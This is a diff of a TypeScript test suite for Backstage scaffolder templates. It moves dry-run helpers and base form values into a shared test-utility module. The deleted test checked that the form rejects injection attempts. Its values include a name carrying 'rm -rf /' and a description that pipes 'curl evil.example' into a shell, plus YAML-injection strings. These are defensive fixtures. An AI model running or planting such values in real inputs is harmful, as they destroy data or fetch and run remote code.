@@ -1,22 +1,10 @@
-import {
-  mockCredentials,
-  startTestBackend,
-} from '@backstage/backend-test-utils';
-import { catalogServiceMock } from '@backstage/plugin-catalog-node/testUtils';
-import scaffolderPlugin from '@backstage/plugin-scaffolder-backend';
-import githubModule from '@backstage/plugin-scaffolder-backend-module-github';
-import gitlabModule from '@backstage/plugin-scaffolder-backend-module-gitlab';
 import { execFileSync } from 'node:child_process';
-import fs from 'node:fs';
-import path from 'node:path';
-import request from 'supertest';
 import { parse, parseAllDocuments } from 'yaml';
 import {
   parseRolloutStrategy,
   ROLLOUT_STRATEGY_ANNOTATION,
 } from '@waybill/plugin-tenant-rollouts-common';
 import { validateCatalogEntity } from './catalog/annotateCatalogInfo';
-import { scaffolderModuleGoldenPipelines } from './module';
 import { CI_PROVIDERS, CLOUDS, TIERS } from './pipeline/model';
 import { REQUIRED_STAGES } from './pipeline/stages';
 import { validatePipelineFile } from './policy/validatePipeline';
@@ -25,41 +13,13 @@ import {
   workflowSchemaErrors,
 } from './__testUtils__/workflowLinters';
 import {
-  TEMPLATES_DIR,
-  directoryContents,
-} from './__testUtils__/templateFiles';
-
-const BASE_VALUES: Record<string, Record<string, unknown>> = {
-  'api-service': {
-    name: 'pricing-quotes-api',
-    description: 'Quotes contract prices for trade customers (order-to-cash).',
-    owner: 'group:default/digital-channels',
-    system: 'customer-channels',
-    businessProcesses: ['order-to-cash'],
-    tenancy: 'shared',
-    consumedApis: [{ api: 'api:default/sales-orders-api', range: '^2.4.0' }],
-    dependsOn: ['component:default/sales'],
-  },
-  'erp-integration-worker': {
-    name: 'supplier-invoice-sync',
-    description: 'Consumes supplier invoices and posts them to purchase.',
-    owner: 'group:default/procurement-systems',
-    businessProcesses: ['procure-to-pay', 'record-to-report'],
-    // As the form's entity picker fills it in.
-    erpApi: 'api:default/purchase-orders-api',
-    erpApiRange: '>=2.0.0 <3.0.0',
-    erpComponent: 'component:default/purchase',
-    queue: 'supplier-invoices.received',
-    tenancy: 'dedicated',
-  },
-  'customer-web-app': {
-    name: 'order-tracking-web',
-    description: 'Lets trade customers follow their orders and deliveries.',
-    owner: 'group:default/order-management',
-    businessProcesses: ['order-to-cash'],
-    tenancy: 'shared',
-  },
-};
+  BASE_VALUES,
+  Server,
+  deliveryValues,
+  dryRun,
+  renderedFiles,
+  startDryRunBackend,
+} from './__testUtils__/dryRun';
 
 /** Files a template renders from its values, and a line each holds. */
 const RENDERED: Record<string, Record<string, string>> = {
@@ -97,21 +57,11 @@ function matrix() {
 }
 
 describe('golden templates through a real scaffolder dry run', () => {
-  let server: Awaited<ReturnType<typeof startTestBackend>>['server'];
+  let server: Server;
   const timings: Record<string, number[]> = {};
 
   beforeAll(async () => {
-    ({ server } = await startTestBackend({
-      features: [
-        scaffolderPlugin,
-        scaffolderModuleGoldenPipelines,
-        // publish:github, github:environment:create and publish:gitlab; a dry run skips them
-        // (and catalog:register) and simulates their outputs.
-        githubModule,
-        gitlabModule,
-        catalogServiceMock.factory({ entities: [] }),
-      ],
-    }));
+    server = await startDryRunBackend();
   }, 60_000);
 
   afterAll(() => {
@@ -130,12 +80,6 @@ describe('golden templates through a real scaffolder dry run', () => {
   let actionlintChecked = 0;
 
   describe.each(templates)('%s', templateName => {
-    const dir = path.join(TEMPLATES_DIR, templateName);
-    const template = parse(
-      fs.readFileSync(path.join(dir, 'template.yaml'), 'utf8'),
-    );
-    const contents = directoryContents(dir);
-
     it.each(matrix())(
       'renders for %o',
       async row => {
@@ -148,10 +92,7 @@ describe('golden templates through a real scaffolder dry run', () => {
           }?owner=meridian&repo=${BASE_VALUES[templateName].name}`,
         };
         const started = Date.now();
-        const res = await request(server)
-          .post('/api/scaffolder/v2/dry-run')
-          .set('Authorization', mockCredentials.user.header())
-          .send({ template, values, directoryContents: contents });
+        const res = await dryRun(server, templateName, values);
         (timings[templateName] ??= []).push(Date.now() - started);
         if (res.status !== 200) {
           throw new Error(
@@ -162,14 +103,7 @@ describe('golden templates through a real scaffolder dry run', () => {
           .map((l: { body: { status?: string; message: string } }) => l.body)
           .filter((b: { status?: string }) => b.status === 'failed');
         expect(failed).toEqual([]);
-        const files: Record<string, string> = Object.fromEntries(
-          res.body.directoryContents.map(
-            (f: { path: string; base64Content: string }) => [
-              f.path,
-              Buffer.from(f.base64Content, 'base64').toString('utf8'),
-            ],
-          ),
-        );
+        const files = renderedFiles(res.body);
 
         // The pipeline: one file for the chosen provider, policy-clean.
         const pipelinePath =
@@ -317,51 +251,11 @@ describe('golden templates through a real scaffolder dry run', () => {
     expect(actionlintChecked).toBe(templates.length * 12);
   });
 
-  /**
-   * A dry run of a template with its base values, a standard tier on AWS with GitHub Actions
-   * (a complete form), and `values` over them.
-   */
-  const dryRun = (templateName: string, values: Record<string, unknown>) => {
-    const dir = path.join(TEMPLATES_DIR, templateName);
-    return request(server)
-      .post('/api/scaffolder/v2/dry-run')
-      .set('Authorization', mockCredentials.user.header())
-      .send({
-        template: parse(
-          fs.readFileSync(path.join(dir, 'template.yaml'), 'utf8'),
-        ),
-        values: {
-          ...BASE_VALUES[templateName],
-          tier: 'standard',
-          clouds: ['aws'],
-          ciProvider: 'github-actions',
-          deployStrategy: 'rolling',
-          repoUrl: `github.com?owner=meridian&repo=${BASE_VALUES[templateName].name}`,
-          ...values,
-        },
-        directoryContents: directoryContents(dir),
-      });
-  };
-
-  it('rejects, at the form, a name that could inject YAML or shell', async () => {
-    expect((await dryRun('api-service', {})).status).toBe(200);
-    for (const bad of [
-      { name: 'x"; rm -rf / #' },
-      { name: 'svc\nkind: Group' },
-      { description: 'Nice service $(curl evil.example | sh)' },
-      { description: 'Quotes: prices\nmetadata: {}' },
-      { clouds: ['aws', 'on-prem'] },
-      { tier: 'gold' },
-      { businessProcesses: ['order-to-cash', 'world-domination'] },
-    ]) {
-      const res = await dryRun('api-service', bad);
-      expect({ bad, status: res.status }).toEqual({ bad, status: 400 });
-    }
-  });
-
   it('has the worker call the ERP operation the form names, and refuses a path it cannot call', async () => {
     const worker = (values: Record<string, unknown>) =>
-      dryRun('erp-integration-worker', {
+      dryRun(server, 'erp-integration-worker', {
+        ...BASE_VALUES['erp-integration-worker'],
+        ...deliveryValues('erp-integration-worker'),
         erpApi: 'api:default/ledger-postings-api',
         erpApiRange: '^4.0.0',
         erpComponent: 'component:default/accounting',
@@ -372,14 +266,7 @@ describe('golden templates through a real scaffolder dry run', () => {
       erpPath: '/tenants/{tenantId}/journal-entries',
     });
     expect(res.status).toBe(200);
-    const files: Record<string, string> = Object.fromEntries(
-      res.body.directoryContents.map(
-        (f: { path: string; base64Content: string }) => [
-          f.path,
-          Buffer.from(f.base64Content, 'base64').toString('utf8'),
-        ],
-      ),
-    );
+    const files = renderedFiles(res.body);
     expect(JSON.parse(files['test/contract/ledger-postings-api.json'])).toEqual(
       {
         operations: [
